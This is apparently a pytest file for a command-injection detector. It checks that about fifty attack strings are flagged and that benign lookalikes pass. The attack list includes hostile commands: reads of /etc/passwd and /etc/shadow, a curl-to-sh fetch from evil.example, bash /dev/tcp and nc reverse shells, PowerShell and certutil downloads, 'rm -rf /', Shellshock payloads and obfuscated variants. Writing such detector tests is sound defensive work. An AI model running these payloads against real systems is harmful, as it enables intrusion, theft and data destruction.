import pytest
from asking import asking
from attack_mutations import commands_mutated
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.command import DETECTOR
from seawall.systems.threats.inspection.decoding import views

ask = asking(DETECTOR)

ATTACKS = (
    "cat /etc/passwd",
    "uname -a",
    "wget http://evil.example/x.sh",
    "curl http://evil.example/",
    "ls -la /",
    "ping -c 3 127.0.0.1",
    "/usr/bin/id",
    "/bin/cat /etc/shadow",
    "netstat -an",
    ";id",
    "|id",
    "`id`",
    "$(id)",
    "a;sleep 5",
    "$(sleep 5)",
    "& ping -n 3 127.0.0.1 &",
    "127.0.0.1 && dir",
    "c'a't /etc/passwd",
    "c\\at /etc/passwd",
    "cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    "cat</etc/passwd",
    "/???/c?t /???/p??s??",
    "${PATH:0:1}bin${PATH:0:1}ls",
    ";wh$@oami",
    "$(echo aWQ=|base64 -d)",
    "curl http://evil.example/x|sh",
    "() { :;}; /bin/bash -c 'id'",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "python -c 'import os;os.system(\"id\")'",
    "cmd /c dir",
    "powershell -enc SQBFAFgASQBFAFgASQBFAFgA",
    "iex(New-Object Net.WebClient).DownloadString('http://x')",
    "certutil -urlcache -f http://x/y.exe",
    "| type c:\\windows\\win.ini",
    "%COMSPEC% /c dir",
    "w^h^o^a^m^i",
    "';cat /etc/passwd #",
    "\nid\n",
    "a\nid",
    "; nslookup evil.example",
    "; rm -rf /",
    "; reboot",
    '<!--#exec cmd="id"-->',
    "';system('id');'",
    "a=c;b=at;$a$b /etc/passwd",
    "env x='() { :;}; id' bash -c id",
    "id|",
)
WRITTEN_OTHERWISE = ATTACKS[:9]
HONEST = (
    "R&D; A&B",
    "rock & roll; sleep well",
    "cats; dogs",
    "name|id|date|type",
    "id",
    "find a doctor",
    "more info at /help/page",
    "sort by date",
    "the date is 5/5",
    "ping me",
    "cat food",
    "https://example.com/?a=1&id=5&sort=asc&date=2",
    'System.out.println("x")',
    "exec() is evil",
    "Thread.sleep(1000)",
    "host: example.com",
    "data:image/png;base64,AAAA",
    "Run; don't walk",
    "please find; then sort",
    "time flies; who knows",
    'Traceback (most recent call last):\n  File "/app/main.py", line 3',
    "`name` and `date` are columns of the table that we use",
    "kill two birds; stay calm",
    "Set; match",
    "2^3 or x^y^z",
    "AT&T",
    "a & b",
    "Q&A; more",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_one_is_let_through(text):
    assert ask(text)[1] < 0.5


@pytest.mark.parametrize("attack", WRITTEN_OTHERWISE)
def test_attacks_written_otherwise_are_found_in_some_view(attack):
    missed = []
    for seed in range(80):
        text = commands_mutated(attack, seed)
        if max(ask(view)[1] for view, _ in views(text)) < 0.75 and text != attack:
            missed.append(text)
    assert missed == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (";id", "command-chain"),
        ("$(id)", "command-substitution"),
        ("cat /etc/passwd", "command-line"),
        ("c'a't /etc/passwd", "command-hidden"),
        ("() { :;}; x", "command-shock"),
        ('<!--#echo var="x"-->', "command-ssi"),
    ],
)
def test_each_kind_of_attack_has_a_rule(text, rule):
    assert ask(text)[0] == rule


def test_honest_values_are_not_even_ambiguous():
    assert [text for text in PLAIN if ask(text)[1] >= 0.5] == []


def test_pasted_statements_stay_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.9] == []


def test_generated_honest_values_are_not_suspected():
    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
    assert suspected == []
